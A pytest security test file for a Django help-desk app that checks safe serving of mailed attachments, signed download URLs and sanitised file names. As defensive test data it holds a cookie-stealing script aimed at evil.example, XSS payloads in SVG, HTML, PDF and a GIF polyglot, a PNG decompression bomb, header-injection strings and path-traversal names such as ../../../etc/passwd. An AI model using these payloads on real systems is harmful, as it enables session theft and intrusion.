"""Files from outside: how they are served (S02), to whom (S16), under which names (S38)."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.conf import settings
from PIL import Image

from otklik.accounts.actions.projects import set_role
from otklik.accounts.models import User
from otklik.channels.mail.tests.support import letter, read
from otklik.desk import signed
from otklik.desk.actions import NewFile, NewMessage, open_ticket, post
from otklik.desk.models import Attachment, Ticket
from otklik.events.actor import system
from otklik.files.models import StoredFile
from tests.story import Story

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
# A GIF that is a script as well.
POLYGLOT = b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)//"
HOSTILE = {
    "svg": ("logo.svg", "image/svg+xml", SVG),
    "svg as png": ("logo.png", "image/png", SVG),
    "html": ("page.html", "text/html", b"<html>" + SCRIPT),
    "htm as png": ("page.htm", "image/png", b"<html>" + SCRIPT),
    "xhtml": ("page.xhtml", "application/xhtml+xml", b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT),
    "xml": ("a.xml", "text/xml", b"<?xml version='1.0'?><?xml-stylesheet href='//evil.example/x.xsl'?><a/>"),
    "pdf": ("a.pdf", "application/pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
    "polyglot gif": ("x.gif", "image/gif", POLYGLOT),
    "js": ("x.js", "text/javascript", b"alert(1)"),
    "shtml": ("x.shtml", "text/html; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "header in type": ("x.txt", "text/html\r\nX-Evil: 1", SCRIPT),
}


def attached(story: Story, name: str, content_type: str, data: bytes) -> Attachment:
    """Return a file that came with a mail to A."""
    opened = open_ticket(
        actor=system("mail"),
        project=story.a,
        subject="x",
        message=NewMessage(text="x", files=(NewFile(name, content_type, data),)),
        source="email",
        channel="mail",
    )
    return Attachment.objects.select_related("file", "message").get(message=opened.message)


def picture() -> bytes:
    """Return a small real picture with a secret in its metadata and HTML behind its end."""
    target = io.BytesIO()
    image = Image.new("RGB", (4, 4), "red")
    exif = image.getexif()
    exif[0x010E] = "secret place"
    image.save(target, "JPEG", exif=exif)
    return target.getvalue() + SCRIPT


@pytest.mark.parametrize("kind", HOSTILE)
def test_s02_active_files_are_saved_never_shown(story: Story, kind: str) -> None:
    attachment = attached(story, *HOSTILE[kind])
    client = story.client(story.boris)
    answer = client.get(signed.download_url(story.boris.pk, attachment))
    assert answer.status_code == 200
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert "X-Evil" not in answer.headers
    assert b"".join(answer.streaming_content) == HOSTILE[kind][2]
    for small in (True, False):
        url = signed.picture_url(story.boris.pk, attachment, small=small)
        shown = client.get(url)
        # A picture in spite of everything (the GIF) is written anew: nothing of the script is left.
        assert shown.status_code == 404 or (shown["Content-Type"] == "image/png" and b"alert" not in shown.content)


def test_s02_inline_pictures_are_pixels_only(story: Story) -> None:
    attachment = attached(story, "photo.jpg", "image/jpeg", picture())
    client = story.client(story.boris)
    for small in (True, False):
        answer = client.get(signed.picture_url(story.boris.pk, attachment, small=small))
        assert answer.status_code == 200
        assert answer["Content-Type"] == "image/jpeg"
        assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert b"secret place" not in answer.content
        assert b"<script" not in answer.content
        assert answer.content != picture()


@pytest.mark.parametrize("size", [(50_000, 50_000), (100_000, 1)])
def test_s02_a_picture_of_too_many_pixels_is_not_opened(story: Story, size: tuple[int, int]) -> None:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )
    attachment = attached(story, "big.png", "image/png", bomb)
    url = signed.picture_url(story.boris.pk, attachment, small=True)
    assert story.client(story.boris).get(url).status_code == 404


def test_s16_a_signed_address_is_for_one_person_one_file_ten_minutes(story: Story) -> None:
    attachment = attached(story, "a.txt", "text/plain", b"secret")
    other = attached(story, "b.txt", "text/plain", b"other")
    foreign = attached(story, "c.txt", "text/plain", b"foreign")
    token = signed.token_for(story.boris.pk, attachment.pk)
    boris = story.client(story.boris)

    def status(pk: int, token: str, client: object = boris, what: str = "save/x") -> int:
        return client.get(f"/work/files/{pk}/{token}/{what}").status_code  # type: ignore[attr-defined]

    assert status(attachment.pk, token) == 200
    for wrong in ("x", token[:-1], token + "a", token.upper(), "1-1-1", signed.token_for(story.vera.pk, attachment.pk)):
        assert status(attachment.pk, wrong) == 404
    assert status(other.pk, token) == 404  # another file's
    assert status(attachment.pk, token, story.client(story.vera)) == 404  # another person's
    assert status(foreign.pk, signed.token_for(story.egor.pk, foreign.pk), story.client(story.egor)) == 404
    assert status(attachment.pk, token, story.client(None)) == 302
    for what in ("preview", "picture"):
        assert status(attachment.pk, "x", boris, what) == 404
    set_role(actor=system("test"), project=story.a, user=story.boris, role=None)
    assert status(attachment.pk, token, story.client(User.objects.get(pk=story.boris.pk))) == 404  # right taken away


def test_s16_a_signed_address_runs_out(story: Story) -> None:
    import time_machine

    attachment = attached(story, "a.txt", "text/plain", b"secret")
    with time_machine.travel("2026-03-01T12:00:00Z", tick=False):
        token = signed.token_for(story.boris.pk, attachment.pk)
        assert signed.is_valid(token, story.boris.pk, attachment.pk)
    with time_machine.travel("2026-03-01T12:10:00Z", tick=False):
        assert signed.is_valid(token, story.boris.pk, attachment.pk)
    with time_machine.travel("2026-03-01T12:10:01Z", tick=False):
        assert not signed.is_valid(token, story.boris.pk, attachment.pk)


def test_s16_a_file_of_a_note_stays_inside(story: Story) -> None:
    """The client's representative has a valid signature and reads the ticket, but not the note the file came with."""
    ticket = story.ticket()
    post(access=story.anna.access, ticket=ticket, kind="question", message=NewMessage(text="?"))
    note = NewMessage(text="note", files=(NewFile("n.txt", "text/plain", b"inner"),))
    posted = post(access=story.anna.access, ticket=ticket, kind="note", message=note)
    attachment = Attachment.objects.get(message=posted)
    token = signed.token_for(story.gleb.pk, attachment.pk)
    assert story.client(story.gleb).get(f"/work/files/{attachment.pk}/{token}/save/x").status_code == 404


NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "/etc/shadow",
    "a\x00.png",
    "\u202egnp.exe",
    ".htaccess",
    "CON",
    "shell.php.pht",
    "x" * 4096 + ".txt",
    'a"; filename="b.html',
    "a\r\nX-Evil: 1\r\n\r\n<script>",
    "имя с пробелом и ёлкой.pdf",
    "~/.ssh/authorized_keys",
]


@pytest.mark.parametrize("name", NAMES)
def test_s38_a_name_is_only_a_label(story: Story, name: str) -> None:
    """The content lies under its digest in the project's folder; the name is only in one header (RFC 6266)."""
    root = Path(settings.FILES_DIR).resolve()
    before = {path for path in root.rglob("*") if path.is_file()}
    attachment = attached(story, name, "text/plain", name.encode("utf-8", "replace"))
    stored = StoredFile.objects.get(pk=attachment.file_id)
    come = {path for path in root.rglob("*") if path.is_file()} - before
    place = root / str(story.a.pk) / stored.sha256[:2] / stored.sha256[2:]
    assert place.is_file()
    assert come <= {place}
    client = story.client(story.boris)
    answer = client.get(signed.download_url(story.boris.pk, attachment))
    assert answer.status_code == 200
    disposition = answer["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert not {"\r", "\n", "\x00", "\u202e"} & set(disposition)
    assert "X-Evil" not in answer.headers
    assert disposition.count("filename") <= 2
    page = client.get(f"/work/NET-{Ticket.objects.get(messages=attachment.message).number}")
    assert page.status_code == 200
    assert "<script>" not in page.content.decode()
    assert "\u202e" not in page.content.decode()


def test_s38_names_of_a_mail_arrive_harmless(story: Story) -> None:
    mail = letter(files={"../../evil.pdf": b"%PDF-1", "\u202efdp.exe": b"x"})
    item = read(story.a, mail)[0]
    names = set(Attachment.objects.filter(message__ticket=item.ticket_id).values_list("file__name", flat=True))
    assert len(names) == 2
    assert not any({"/", "\\", "\u202e", "\x00"} & set(name) for name in names)
